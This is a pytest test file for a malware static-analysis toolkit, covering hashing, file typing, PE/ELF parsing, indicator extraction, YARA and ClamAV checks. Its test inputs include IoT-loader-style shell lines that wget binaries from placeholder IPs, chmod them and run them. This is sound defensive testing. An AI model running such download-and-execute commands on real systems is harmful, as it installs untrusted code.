# SPDX-License-Identifier: Apache-2.0
"""Each static analyser says what is true of benign bodies, and says so when it could not look."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import socket
import struct
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
import setuptools

from mead.analysis.analyser import Artifact, Report
from mead.analysis.registry import ANALYSERS
from mead.analysis.settings import AnalysisSettings
from mead.analysis.static import clamav, yara

CAPTURES = Path(__file__).parents[1] / "captures" / "static"
LAUNCHER = Path(setuptools.__file__).parent / "cli-32.exe"


def _look(name: str, data: bytes, settings: AnalysisSettings) -> Report:
    report = ANALYSERS.load(name).analyse(Artifact.of(data), settings)
    assert report is not None
    return report


def _values(report: Report) -> dict[str, str | None]:
    return {finding.claim: finding.value for finding in report.findings}


def test_hashes(settings: AnalysisSettings, noise: bytes) -> None:
    values = _values(_look("hashes", noise, settings))
    assert values["hash.md5"] == hashlib.md5(noise).hexdigest()
    assert values["hash.sha256"] == hashlib.sha256(noise).hexdigest()
    assert re.fullmatch(r"\d+:\S+:\S+", values["hash.ssdeep"] or "")
    assert (values["hash.tlsh"] or "").startswith("T1")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\x7fELF\x02\x01\x01", "elf"), (b"PK\x03\x04....", "zip"), (b"#!/bin/sh\n", "script"),
        (b"plain text\n", "text"),
        (b"<html><body>", "html"), (bytes(range(256)), "data"), (b"{\\rtf1 }", "rtf"), (b"", "data"),
        (b"\0" * 257 + b"ustar", "tar"), (b"MZ" + b"\0" * 100, "dos"),
    ],
)  # fmt: skip
def test_type_by_our_own_table(data: bytes, kind: str, settings: AnalysisSettings) -> None:
    assert _values(_look("filetype", data, settings))["type"] == kind


def test_type_names_every_source(program: bytes, settings: AnalysisSettings) -> None:
    values = _values(_look("filetype", program, settings))
    assert values["type"] == "pe"
    assert "PE32" in (values["type.libmagic"] or "")
    assert values["type.mime"]


def test_pe_facts(settings: AnalysisSettings) -> None:
    data = LAUNCHER.read_bytes()
    report = _look("pe", data + b"appended" * 10, settings)
    values = _values(report)
    assert values["pe.architecture"] == "i386"
    assert values["pe.subsystem"] == "windows_cui"
    assert re.fullmatch(r"[0-9a-f]{32}", values["hash.imphash"] or "")
    assert values["overlay"] == "80 bytes"
    imports = next(finding for finding in report.findings if finding.claim == "pe.imports")
    assert any(name.startswith("KERNEL32.dll:") for name in imports.evidence)


def test_pe_damaged_headers_fail_and_other_files_are_none_of_its_business(settings: AnalysisSettings) -> None:
    broken = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\xff" * 10
    assert _look("pe", broken, settings).verdict == "failed"
    assert ANALYSERS.load("pe").analyse(Artifact.of(b"text"), settings) is None
    assert ANALYSERS.load("elf").analyse(Artifact.of(b"text"), settings) is None


def test_elf_facts(settings: AnalysisSettings) -> None:
    report = _look("elf", Path("/bin/true").resolve().read_bytes(), settings)
    values = _values(report)
    assert values["elf.linked"] == "dynamic"
    assert "64-bit little-endian" in (values["elf.architecture"] or "")
    assert re.fullmatch(r"t1[0-9a-f]{70}", values["hash.telfhash"] or "")


def test_elf_overlay_and_damage(settings: AnalysisSettings) -> None:
    data = Path("/bin/true").resolve().read_bytes()
    assert "overlay" in _values(_look("elf", data + b"x" * 3000, settings))
    assert _look("elf", b"\x7fELF" + b"\xff" * 40, settings).verdict in {"failed", "done"}


def test_strings_and_indicators(settings: AnalysisSettings) -> None:
    text = b"\0\0/bin/busybox wget http://198.51.100.7:8080/x.sh\0" + "http://wide.example.com/a".encode(
        "utf-16-le"
    )
    report = _look("strings", text, settings)
    found = {(i.indicator_kind, i.indicator) for i in report.indicators}
    assert {
        ("url", "http://198.51.100.7:8080/x.sh"),
        ("ip", "198.51.100.7"),
        ("url", "http://wide.example.com/a"),
    } <= found
    assert any(finding.claim == "strings.telling" for finding in report.findings)


def test_strings_say_when_they_stop(settings: AnalysisSettings) -> None:
    few = msgspec.structs.replace(settings, max_indicators=5, max_strings_bytes=4000)
    data = b"".join(b"http://host%d.example.com/ \n" % n for n in range(500))
    report = _look("strings", data, few)
    assert len(report.indicators) == 5
    assert {hit.limit for hit in report.limits} == {"strings.bytes", "strings.indicators"}


LOADER = b"""#!/bin/sh
A=192.0.2.1
for x in arm mips; do
  wget http://$A/bins/$x -O $x; chmod +x $x; ./$x telnet
done
echo -ne "\\x7fELF-benign-marker" > /tmp/d
[ "$(uname -m)" = armv7l ] && curl http://192.0.2.2/only-arm
"""


def test_a_script_gives_the_urls_that_it_builds(settings: AnalysisSettings) -> None:
    report = _look("scripts", LOADER, settings)
    urls = {indicator.indicator for indicator in report.indicators}
    assert urls == {"http://192.0.2.1/bins/arm", "http://192.0.2.1/bins/mips", "http://192.0.2.2/only-arm"}
    assert {child.name: child.data for child in report.children}["/tmp/d"] == b"\x7fELF-benign-marker"
    assert any(finding.claim == "script.starts" for finding in report.findings)


@pytest.mark.parametrize(
    "data", [b"<html>wget x; chmod y</html>", b"just a letter\n", b"\x7fELF wget chmod\0", b""]
)
def test_what_is_no_script_is_not_run(data: bytes, settings: AnalysisSettings) -> None:
    assert ANALYSERS.load("scripts").analyse(Artifact.of(data), settings) is None


def test_a_script_without_a_first_line_is_known_by_its_commands(settings: AnalysisSettings) -> None:
    report = _look("scripts", b"cd /tmp || cd /var; wget http://192.0.2.3/a; chmod 777 a; ./a", settings)
    assert [indicator.indicator for indicator in report.indicators] == ["http://192.0.2.3/a"]


def test_an_endless_script_ends(settings: AnalysisSettings) -> None:
    report = _look("scripts", b"#!/bin/sh\nwhile true; do wget http://192.0.2.4/x; done\n", settings)
    assert report.limits


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "marker.yar").write_text('rule marker { strings: $a = "benign marker" condition: $a }')
    return folder


def test_yara_found_with_evidence(program: bytes, rules: Path, settings: AnalysisSettings) -> None:
    report = _look("yara", program, msgspec.structs.replace(settings, yara_rules=str(rules)))
    assert report.verdict == "found"
    (finding,) = [f for f in report.findings if f.rule == "marker.yar:marker"]
    assert finding.evidence == ("$a at offset 512: benign marker",)


def test_yara_is_clean_only_when_rules_judge(noise: bytes, rules: Path, settings: AnalysisSettings) -> None:
    assert _look("yara", noise, settings).verdict == "done"
    assert _look("yara", noise, msgspec.structs.replace(settings, yara_rules=str(rules))).verdict == "clean"


def test_yara_names_broken_rules_and_runs_the_others(
    program: bytes, rules: Path, settings: AnalysisSettings
) -> None:
    (rules / "broken.yar").write_text("rule broken {\n condition:\n  nothing_known\n}")
    chosen = msgspec.structs.replace(settings, yara_rules=str(rules))
    report = _look("yara", program, chosen)
    assert report.verdict == "found"
    assert "broken.yar:3" in (report.reason or "")
    assert yara.compile_rules(str(rules)).fingerprint == ANALYSERS.load("yara").engine(chosen).database


def test_yara_facts_of_our_own_rules(settings: AnalysisSettings) -> None:
    script = b"cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a\n"
    report = _look("yara", script, settings)
    assert {finding.rule for finding in report.findings} == {"loaders.yar:shell_loader"}


def _serve(path: Path, answer: bytes | None) -> threading.Thread:
    """A clamd that gives one answer, or hangs up in the middle of the stream."""
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen(1)

    def talk() -> None:
        link, _ = server.accept()
        with server, link:
            link.recv(64)
            if answer is None:
                return
            while b"\0\0\0\0" not in link.recv(1 << 16)[-4:]:
                pass
            link.sendall(answer)

    thread = threading.Thread(target=talk, daemon=True)
    thread.start()
    return thread


@pytest.mark.parametrize(
    ("answer", "verdict"),
    [
        (b"stream: OK\0", "clean"), (b"stream: Some.Name FOUND\0", "found"), (None, "skipped"),
        (b"INSTREAM size limit exceeded. ERROR\0", "skipped"), (b"stream: read error ERROR\0", "failed"),
        (b"stream: Heuristics.Encrypted.Zip FOUND\0", "skipped"),
    ],
)  # fmt: skip
def test_clamd_answers(
    tmp_path: Path, answer: bytes | None, verdict: str, settings: AnalysisSettings
) -> None:
    path = tmp_path / "s"
    thread = _serve(path, answer)
    body = bytes(4 << 20) if answer is None else b"x" * 100
    report = _look("clamav", body, msgspec.structs.replace(settings, clamd_socket=str(path), clamd_seconds=5))
    assert report.verdict == verdict
    thread.join(5)


def test_clamd_that_is_not_there_is_no_verdict(tmp_path: Path, settings: AnalysisSettings) -> None:
    gone = msgspec.structs.replace(settings, clamd_socket=str(tmp_path / "none"))
    assert ANALYSERS.load("clamav").analyse(Artifact.of(b"x"), gone) is None
    big = msgspec.structs.replace(settings, clamd_socket=str(tmp_path), clamd_max_bytes=10)
    assert _look("clamav", b"x" * 11, big).verdict == "skipped"


def test_database_fingerprint_follows_the_files(tmp_path: Path) -> None:
    assert clamav.database_fingerprint(str(tmp_path)) is None
    signatures = tmp_path / "a.hdb"
    signatures.write_bytes(b"one\n")
    first = clamav.database_fingerprint(str(tmp_path))
    signatures.write_bytes(b"two!\n")
    assert first != clamav.database_fingerprint(str(tmp_path))


@pytest.fixture
def clamd(tmp_path: Path) -> Iterator[AnalysisSettings]:
    """A clamd of our own with one own signature."""
    database = tmp_path / "database"
    database.mkdir()
    shutil.copy(CAPTURES / "clam.hdb", database)
    path = tmp_path / "clamd.ctl"
    configuration = tmp_path / "clamd.conf"
    configuration.write_text(
        f"LocalSocket {path}\nDatabaseDirectory {database}\nForeground yes\nStreamMaxLength 1M\n"
        f"LogFile {tmp_path}/log\nPidFile {tmp_path}/pid\n"
    )
    binary = shutil.which("clamd") or "/usr/sbin/clamd"
    process = subprocess.Popen(
        [binary, "-c", str(configuration)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    deadline = time.monotonic() + 30
    while not path.exists() and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert path.exists(), (tmp_path / "log").read_text() if (tmp_path / "log").exists() else "no clamd"
    yield AnalysisSettings(clamd_socket=str(path), clamd_database=str(database))
    process.terminate()
    process.wait(10)


@pytest.mark.tool("clamd")
def test_a_real_clamd_finds_its_signature_and_has_a_fingerprint(
    clamd: AnalysisSettings, testfiles: Path
) -> None:
    body = (testfiles / "clam.exe").read_bytes()
    report = _look("clamav", body, clamd)
    assert (report.verdict, report.findings[0].value) == ("found", "ClamAV-Test-File.UNOFFICIAL")
    assert _look("clamav", b"nothing of note", clamd).verdict == "clean"
    engine = ANALYSERS.load("clamav").engine(clamd)
    assert (engine.version or "").startswith("ClamAV ")
    assert (engine.database or "").startswith("sha256:")


@pytest.mark.tool("clamd")
def test_a_real_clamd_over_its_limit_is_skipped(clamd: AnalysisSettings) -> None:
    report = _look("clamav", os.urandom(8 << 20), clamd)
    assert report.verdict == "skipped"
